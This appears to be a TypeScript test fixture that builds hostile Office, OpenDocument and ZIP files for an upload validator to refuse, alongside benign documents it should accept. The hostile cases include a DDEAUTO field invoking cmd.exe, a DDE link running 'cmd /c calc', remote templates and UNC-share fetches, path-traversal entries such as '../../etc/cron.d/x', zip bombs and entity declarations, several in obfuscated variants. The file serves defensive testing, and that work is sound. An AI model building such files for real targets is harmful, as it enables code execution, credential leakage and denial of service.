import { family, type HostileCase } from "./case.ts";
import { entry, nothing, zip, type Entry } from "./zip.ts";

const TYPES = {
  docx: ["word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"],
  xlsx: ["xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"],
  pptx: ["ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"],
} as const;

function office(kind: keyof typeof TYPES, ...more: readonly Entry[]): Entry[] {
  const [main, type] = TYPES[kind];
  return [
    entry(
      "[Content_Types].xml",
      `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${main}" ContentType="${type}"/></Types>`,
    ),
    entry("_rels/.rels", "<Relationships/>"),
    entry(main, "<document/>"),
    ...more,
  ];
}
const open = (...more: readonly Entry[]): Entry[] => [
  entry("mimetype", "application/vnd.oasis.opendocument.text", { method: 0 }),
  entry("content.xml", "<x/>"),
  ...more,
];
const relation = (type: string, target = "http://x.example/a", mode = "External"): string =>
  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const prefixed = (xml: string): string =>
  xml
    .replaceAll(/<(\/?)(\w+)/g, "<$1r:$2")
    .replace(
      "<r:Relationships",
      '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"',
    );
const linked = (element: string, href: string): string =>
  `<${element} xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${href}"/>`;
const wide = (xml: string): Buffer => Buffer.from(`\uFEFF${xml}`, "utf16le");
const WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
/** A field of Word, its instruction in pieces. */
const field = (...pieces: readonly string[]): string => {
  const runs = pieces
    .map((piece) => (piece.startsWith("<") ? piece : `<w:r><w:instrText>${piece}</w:instrText></w:r>`))
    .join("");
  return `<w:p xmlns:w="${WORD}"><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
};

/** Sheets, texts and presentations with something in them that runs, hides, or grows. */
const kinds = Object.keys(TYPES) as (keyof typeof TYPES)[];
const inside: HostileCase[] = kinds.flatMap((kind) =>
  family(
    "office",
    "document",
    "refused",
    Object.fromEntries(
      Object.entries({
        "with macros": [entry("word/vbaProject.bin", "x")],
        "with macros elsewhere": [entry("a/b/VBAPROJECT.BIN", "x")],
        "with a control": [entry("word/activeX/activeX1.xml")],
        "with an object": [entry("word/embeddings/oleObject1.bin", "x")],
        "with a program": [entry("word/media/a.exe", "MZ")],
        "with a script": [entry("a.js", "x")],
        "with a path upwards": [entry("../../etc/cron.d/x", "x")],
        "with a path from the root": [entry("/etc/passwd", "x")],
        "with a path of Windows": [entry("C:\\a", "x")],
        "with backslashes": [entry("..\\..\\a", "x")],
        "that is locked": [entry("a", "x", { flags: 1 })],
        "that grows to 400 MB": [entry("a.xml", nothing(400))],
        "that grows much": [entry("a.xml", nothing(40))],
        "that says it grows to 4 GB": [entry("a.xml", "x", { size: 0xffff_fffe })],
        "with entries that share their bytes": Array.from({ length: 200 }, (_, i) =>
          entry(`a${i}`, nothing(1), { at: 0, packed: 400_000 }),
        ),
        "with six thousand entries": Array.from({ length: 6_000 }, (_, i) => entry(`a${i}`)),
        "with a name twice": [entry("a"), entry("a")],
        "that fetches its form": [entry("word/_rels/settings.xml.rels", relation("attachedTemplate"))],
        "that fetches an object": [entry("word/_rels/document.xml.rels", relation("oleObject"))],
        "that fetches a frame": [entry("word/_rels/document.xml.rels", relation("frame"))],
        "with relations without end": [entry("word/_rels/a.rels", nothing(2))],
        "that fetches its form, spelled with a reference": [
          entry("word/_rels/settings.xml.rels", relation("attached&#84;emplate")),
        ],
        "that fetches its form by a prefix": [
          entry("word/_rels/settings.xml.rels", prefixed(relation("attachedTemplate"))),
        ],
        "that fetches its form in UTF-16": [entry("word/_rels/settings.xml.rels", wide(relation("attachedTemplate")))],
        "that fetches its form in UTF-16 without a mark": [
          entry("word/_rels/settings.xml.rels", wide(relation("attachedTemplate")).subarray(2)),
        ],
        "that fetches a picture": [
          entry("word/_rels/document.xml.rels", relation("image", "file:////198.51.100.9/share/a.png")),
        ],
        "that says it is in another alphabet": [entry("word/a.xml", '<?xml version="1.0" encoding="ISO-8859-1"?><a/>')],
        "with a type definition": [entry("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')],
        "with a field that starts a program": [
          entry("word/document2.xml", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
        ],
        "with such a field in pieces": [entry("word/document2.xml", field("DD", "E cmd"))],
        "with such a field inside a field": [
          entry("word/document2.xml", field("IF ", field("INCLUDEPICTURE http://x.example/a.png"))),
        ],
        "with a simple field that fetches": [
          entry(
            "word/header1.xml",
            `<w:p xmlns:w="${WORD}"><w:fldSimple w:instr=" includetext &quot;http://x.example/a&quot; "/></w:p>`,
          ),
        ],
        "with such a field under another name": [
          entry("word/media/image1.dat", field("IMPORT http://x.example/a.png")),
        ],
        "with a link to a program": [
          entry(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          ),
        ],
        "with macros under another name": [
          entry("word/_rels/document.xml.rels", relation("vbaProject", "a.dat", "Internal")),
        ],
        "with a part of another kind": [
          entry("word/_rels/document.xml.rels", relation("aFChunk", "a.dat", "Internal")),
        ],
        "with a drawing that fetches": [
          entry(
            "word/vmlDrawing1.vml",
            '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="//198.51.100.9/a.png"/></v:shape></xml>',
          ),
        ],
        "with XML that is none": [entry("word/a.xml", "<a><b></a>")],
      }).map(([what, more]) => [`${kind} ${what}`, zip(office(kind, ...more))]),
    ),
  ),
);

const form: HostileCase[] = [
  ...family("office", "document", "refused", {
    "an open text that fetches a picture": zip(open(entry("a.xml", linked("image", "https://x.example/a.png")))),
    "an open text that fetches from a share": zip(open(entry("a.xml", linked("image", "//198.51.100.9/a.png")))),
    "an open text with a template on a share": zip(
      open(entry("a.xml", linked("template", "file:////198.51.100.9/a.ott"))),
    ),
    "an open text with a link to a program": zip(open(entry("a.xml", "<dde-source/>"))),
    "an open text that runs something": zip(open(entry("a.xml", "<event-listener/>"))),
  }),
  ...family("archives", "document", "refused", {
    "an archive": zip([entry("a.txt", "x")]),
    "an empty archive": zip([]),
    "only an end": zip([]).subarray(0, 10),
    "a text of macros": zip(open(entry("Basic/Standard/Module1.xml"))),
    "a text of scripts": zip(open(entry("Scripts/python/a.py"))),
    "a text that is locked": zip(open(entry("a", "x", { flags: 1 }))),
    "more entries than there are": zip(office("docx"), { count: 60_000 }),
    "a list that is cut": zip(office("docx")).subarray(0, -30),
    "a list that is not there": zip(office("docx")).subarray(0, 300),
    "types of 200 MB": zip([entry("[Content_Types].xml", nothing(200)), entry("word/document.xml")]),
    "types that say 4 GB": zip([entry("[Content_Types].xml", "x", { size: 0xffff_fffe, packed: 0xffff_fff0 })]),
    "a packing that nobody knows": zip([entry("[Content_Types].xml", "x", { method: 99 }), entry("word/document.xml")]),
    "an archive of archives": zip([entry("a.zip", zip([entry("b.zip", zip([entry("c", nothing(10))]))]))]),
    "an old Android program": zip([entry("AndroidManifest.xml"), entry("classes.dex", "dex\n035")]),
    "a Java program": zip([entry("META-INF/MANIFEST.MF", "Main-Class: A")]),
    "a book": zip([entry("mimetype", "application/epub+zip", { method: 0 })]),
    "a text with macros by its type": zip([
      entry(
        "[Content_Types].xml",
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
      entry("word/document.xml"),
    ]),
  }),
  ...family("archives", "document", "either", {
    "a long comment": zip(office("docx"), { comment: Buffer.alloc(65_000, 65) }),
    "an archive in a comment": zip(office("docx"), { comment: zip([entry("a", "x")]) }),
  }),
];

export const archiveCases: readonly HostileCase[] = [...inside, ...form];
/** A sheet that nothing is wrong with. */
export const goodSheet: Buffer = zip(office("xlsx"));
/** Files that people write: links to follow, page numbers, dates, and what their programs add. */
export const goodOffice: Readonly<Record<string, Buffer>> = {
  "a link to follow": zip(
    office("docx", entry("word/_rels/document.xml.rels", relation("hyperlink", "https://x.example/a"))),
  ),
  "a picture inside": zip(
    office(
      "docx",
      entry("word/_rels/document.xml.rels", relation("image", "media/image1.png", "Internal")),
      entry("word/media/image1.png", "\u0089PNG"),
    ),
  ),
  "a table inside": zip(
    office("docx", entry("word/charts/_rels/chart1.xml.rels", relation("package", "../embeddings/a.xlsx", "Internal"))),
  ),
  fields: zip(
    office(
      "docx",
      entry("word/footer1.xml", field(" PAGE ", " \\* MERGEFORMAT")),
      entry("word/header1.xml", field(' HYPERLINK "https://import.example/DDE" ')),
    ),
  ),
  "a link on a drawing": zip(
    office(
      "docx",
      entry(
        "word/a.xml",
        '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://x.example"><v:imagedata src=""/></v:shape>',
      ),
    ),
  ),
  "what a program says of itself": zip(
    office(
      "docx",
      entry(
        "customXml/item1.xml",
        '\uFEFF<?xml version="1.0" encoding="utf-8"?><?mso-contentType?><FormTemplates xmlns="http://schemas.microsoft.com/sharepoint/v3/contenttype/forms"/>',
      ),
    ),
  ),
  "bytes that are no XML": zip(office("docx", entry("word/fonts/font1.odttf", Buffer.from([0xff, 0xfe, 1, 2, 3])))),
  cells: zip(
    office(
      "xlsx",
      entry(
        "xl/worksheets/sheet1.xml",
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>Grüße 提单</t></is></c></row></sheetData></worksheet>',
      ),
    ),
  ),
  "an open text": zip(
    open(
      entry(
        "a/content.xml",
        '<o:text xmlns:o="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><o:a xlink:href="https://x.example">x</o:a><o:image xlink:href="Pictures/1.png"/><o:template xlink:href="file:///C:/Templates/a.ott"/><o:scripts/></o:text>',
      ),
    ),
  ),
};
